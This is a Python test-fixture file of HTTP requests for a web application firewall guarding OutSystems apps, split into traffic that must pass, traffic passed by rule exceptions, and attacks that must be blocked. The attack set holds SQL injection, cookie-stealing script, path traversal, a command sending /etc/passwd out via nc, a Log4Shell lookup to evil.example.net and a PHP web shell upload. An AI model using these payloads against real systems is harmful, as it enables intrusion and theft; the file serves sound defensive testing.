"""Requests for the application firewall: what OutSystems clients send, and what attackers do.

Each is the target and what osptest's ask() takes besides.
"""
import base64
import json
import random
from urllib.parse import quote, urlencode

SERVICE = "/MyApp/screenservices/MyApp/MainFlow/Home/DataActionGetItems"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"
COOKIES = ("osVisitor=a1b2; nr1Users=5K/+x==; "
           "nr2Users=crf%3dT6C%2b9iB49TLra4jEsMeSckDMNhQ%3d%3buid%3d1%3bunm%3dalice")
PAGE = [("User-Agent", BROWSER), ("Accept", "text/html,*/*;q=0.8"), ("Cookie", COOKIES)]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
_random = random.Random(11)


def typed(kind, *more):
    return [("Content-Type", kind), *more, *PAGE]


SCREEN = typed("application/json; charset=UTF-8", ("X-CSRFToken", "T6C+9iB49TLra4jEsMeSckDMNhQ="),
               ("OutSystems-client-env", "browser"), ("OutSystems-locale", "en-US"))
FORM = typed("application/x-www-form-urlencoded; charset=UTF-8")
MULTIPART = typed(f"multipart/form-data; boundary={BOUNDARY}")


def post(target, body, headers, method="POST"):
    return target, {"method": method, "body": body, "headers": headers}


def get(target, headers=PAGE, method="GET"):
    return target, {"method": method, "headers": headers}


def base64_of(size):
    return base64.b64encode(_random.randbytes(size)).decode()


def screen(target=SERVICE, **variables):
    data = {"versionInfo": {"moduleVersion": "49NNIDchMt9XlrZrEO_H4A", "apiVersion": "kQ+/w2ZyLbN3F2LDuGvGhw"},
            "viewName": "MainFlow.Home", "screenData": {"variables": variables},
            "inputParameters": {"StartIndex": 0, "MaxRecords": 50}}
    return post(target, json.dumps(data).encode(), SCREEN)


def post_back(target="/Portal/Home.aspx", size=3000, **fields):
    state = {"__EVENTTARGET": "wt15$OutSystemsUIWeb_wt3$block$wtContent$wt7", "__EVENTARGUMENT": "",
             "__OSVSTATE": base64_of(500), "__VIEWSTATE": base64_of(size), "__VIEWSTATEGENERATOR": "CA0B0334"}
    return post(target, urlencode({**state, **fields}).encode(), FORM)


def upload(name, content, kind, target="/Portal/Profile.aspx", field="__OSVSTATE", value="abc="):
    head = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="wt12$wtUpload"; filename="{name}"\r\n'
            f"Content-Type: {kind}\r\n\r\n").encode()
    return post(target, head + content + f"\r\n--{BOUNDARY}--\r\n".encode(), MULTIPART)


POLICY_REPORT = json.dumps({"csp-report": {
    "document-uri": "https://apps.example.com/MyApp/Home", "violated-directive": "script-src",
    "original-policy": "default-src 'self' gap:; script-src 'self' 'unsafe-inline' 'unsafe-eval'",
    "blocked-uri": "inline", "status-code": 200, "script-sample": "javascript:alert(1)"}}).encode()
ERROR_REPORT = json.dumps([{
    "logType": "error", "instant": "2025-01-01T00:00:00.000Z",
    "message": "TypeError: Cannot read properties of undefined (reading 'x') at Object.eval "
               "(eval at <anonymous>)",
    "stack": "at https://apps.example.com/MyApp/scripts/OutSystems.js?eq9:1:2\n at document.cookie.get"}]).encode()
TIMINGS = json.dumps({"screen": "MainFlow.Home", "url": "https://apps.example.com/Portal/Home.aspx?Id=1&x='y'",
                      "ms": 123}).encode()
SOAP = (b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
        b'<GetOrder xmlns="http://www.outsystems.com"><Id>7</Id></GetOrder></soap:Body></soap:Envelope>')
ORDER = b'{"Name":"new"}'
BEACON = "/PerformanceProbe/rest/BeaconInternal/WebScreenClientExecutedEvent"
PASSWORD = "pa'ss or 1=1--<script>"
LOGIN = "/MyApp/screenservices/MyApp/Common/Login/ActionDoLogin"

PASSES = {
    "shell": get("/MyApp/Home"),
    "resource": get("/MyApp/scripts/OutSystems.js?eq9LGmzdgJbMq6dbNoVMvQ"),
    "resource with a plus": get("/MyApp/css/a.css?e+q9_LGmzdgJbMq6dbNoVM"),
    "manifest": get("/MyApp/moduleservices/moduleinfo?cached"),
    "screen": screen(Search="O'Brien & Sons <north>",
                     Text="please select an item from the list where it fits; it's 50% off -- thanks"),
    "screen with markup": screen(Note="Use <b>bold</b>, https://example.com/?a=1&b=2, C:\\temp\\x.txt"),
    "screen with the least": post(SERVICE, b"{}", SCREEN),
    "post-back": post_back(Text="O'Brien & Sons"),
    "ajax": post_back(__AJAX="1042,738,wt15_block_wtContent_wt7,10,20,0,0,", __AJAXEVENT=""),
    "return address": get("/Portal/Login.aspx?OriginalURL=https%3a%2f%2fapps.example.com%2fPortal%2fHome.aspx%3fa%3d1"),
    "bearer": get("/MyApp/rest/Orders/v1", [("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.a-_"),
                                            *PAGE]),
    "soap": post("/MyApp/Orders.asmx", SOAP, typed("text/xml; charset=utf-8", (
        "SOAPAction", '"http://www.outsystems.com/GetOrder"'))),
    "timings as a form": post(BEACON, b"ESpace=Portal&WebScreen=Home.aspx&LoadTime=900", FORM),
    "upload": upload("Report & Plan (final).pdf", b"%PDF-1.7\n" + bytes(range(256)) * 400, "application/pdf"),
    "upload of text": upload("notes.txt", b"SELECT * FROM users; <script>alert(1)</script> /etc/passwd",
                             "text/plain"),
    "native": get("/MyMobile/moduleservices/moduleversioninfo?1700000000000", [
        ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) OutSystemsApp v.1.0"),
        ("x-version-tokens", "MyMobile:abc"), ("outsystems-device-uuid", "1-2")]),
    "app download": get("/NativeAppBuilder/App?Name=MyMobile&AppKey=1-2&type=ipa"),
}
# What passes because of an exception: with the rule that refuses it otherwise (its number, or a status).
EXCEPTED = {
    "patch": ("911100", post("/MyApp/rest/Orders/v1/7", ORDER, SCREEN, "PATCH")),
    "put": ("911100", post("/MyApp/rest/Orders/v1/7", ORDER, SCREEN, "PUT")),
    "delete": ("911100", get("/MyApp/rest/Orders/v1/7", method="DELETE")),
    "octets": ("920420", post("/MyApp/rest/Orders/v1/7", bytes(range(256)) * 40,
                              typed("application/octet-stream"), "POST")),
    "timings": ("920420", post(BEACON, TIMINGS, typed("text/plain;charset=UTF-8"))),
    "policy report": ("920420", post("/SecurityUtils/rest/CSPReport/Report", POLICY_REPORT,
                                     typed("application/csp-report"))),
    "policy reports": ("920420", post("/SecurityUtils/rest/CSPReport/Report", b"[" + POLICY_REPORT + b"]",
                                      typed("application/reports+json"))),
    "policy report as json": ("941210", post("/SecurityUtils/rest/CSPReport/Report", POLICY_REPORT,
                                             typed("application/json"))),
    "error report": ("934100", post("/MyApp/moduleservices/log?clientTimeInMillis=1700000000000", ERROR_REPORT,
                                    SCREEN)),
    "script of asp.net": ("920440", get("/Portal/WebResource.axd?d=x&t=6")),
    "password of a form": ("941110", post_back("/Login/Login.aspx", User="alice", Password=PASSWORD)),
    "password of a screen": ("941110", screen(LOGIN, Username="alice", NewPassword=PASSWORD)),
    "view state": ("10004", post_back(size=90_000)),
    "large view state": ("413", post_back(size=300_000)),
    "large upload": ("413", upload("video.mp4", bytes(17_000_000), "video/mp4",
                                   "/Portal/Upload.aspx")),
    "large file by rest": ("413", post("/MyApp/rest/Files/v1/7", bytes(17_000_000),
                                       typed("application/octet-stream"), "PUT")),
    "picture in json": ("413", screen("/MyApp/screenservices/MyApp/MainFlow/Photos/ActionUpload",
                                      Picture=base64_of(1_000_000))),
}

SQL = "' UNION SELECT username, password FROM ossys_user--"
SCRIPT = "<script>alert(document.cookie)</script>"
VALUES = {
    "sql": SQL, "sql or": "1' OR '1'='1", "script": SCRIPT, "event handler": '"><img src=x onerror=alert(1)>',
    "traversal": "../../../../windows/win.ini", "local file": "/etc/passwd",
    "command": "; cat /etc/passwd | nc 192.0.2.1 99", "windows command": "& powershell -enc SQBFAFgA",
    "jndi": "${jndi:ldap://evil.example.net/a}",
}
ATTACKS = {
    **{f"{name} in the query": get(f"/Portal/Home.aspx?Id={quote(value)}") for name, value in VALUES.items()},
    **{f"{name} in json": screen(Search=value) for name, value in VALUES.items()},
    **{f"{name} in a form": post_back(Text=value) for name, value in VALUES.items()},
    **{f"{name} in multipart": upload("a.pdf", b"x", "application/pdf", field="Text", value=value)
       for name, value in VALUES.items()},
    "scanner": get("/MyApp/", [("User-Agent", "sqlmap/1.7 (https://sqlmap.org)")]),
    "another scanner": get("/MyApp/", [("User-Agent", "Mozilla/5.00 (Nikto/2.1.6)")]),
    "web.config": get("/MyApp/web.config"),
    "backup": get("/MyApp/Home.aspx.bak"),
    "repository": get("/.git/config"),
    "trace.axd": get("/Portal/Trace.axd"),
    "path twice encoded": get("/MyApp/img/..%252f..%252fweb.config"),
    "method": get("/MyApp/", method="PROPFIND"),
    "content type": post("/Portal/Home.aspx", b"a=1", typed("application/x-java-serialized-object")),
    "header splitting": get("/Portal/Home.aspx?a=x%0d%0aSet-Cookie:%20a=b"),
    "cookie": get("/Portal/", [("Cookie", f"a={quote(SQL)}"), *PAGE[:2]]),
    "referer": get("/Portal/", [("Referer", f"https://x/{SCRIPT}"), *PAGE]),
    "get with a body": post("/Portal/", b"a=1", FORM, "GET"),
    "half a body of json": post(SERVICE, b'{"a":', SCREEN),
    "upload of php": upload("shell.php", b"<?php system($_GET[1]); ?>", "text/plain"),
    "upload upwards": upload("../../shell.aspx", b"x", "text/plain"),
    # Attacks in what the exceptions let by.
    "script as view state": post_back(__VIEWSTATE=SCRIPT),
    "sql as view state": post_back(__OSVSTATE=SQL),
    "sql in the name of a password": screen(**{f"{SQL}x": "a"}),
    "sql beside a password": screen(LOGIN, Username=SQL, Password="a"),
    "sql in a policy report": post("/SecurityUtils/rest/CSPReport/Report", POLICY_REPORT.replace(
        b"inline", SQL.encode()), typed("application/csp-report")),
    "script in json of another path": post("/MyApp/rest/log", ERROR_REPORT, SCREEN),
    "sql in patch": post(f"/MyApp/rest/Orders/v1/7?x={quote(SQL)}", ORDER, SCREEN, "PATCH"),
    "sql in octets' query": post(f"/MyApp/rest/Files/v1/7?x={quote(SQL)}", b"x", typed("application/octet-stream")),
    "a large form": post("/Portal/Home.aspx", b"a=" + b"x" * 1_100_000 + b"&b=" + quote(SQL).encode(), FORM),
    "a large upload elsewhere": upload("a.bin", bytes(17_000_000), "application/pdf"),
}
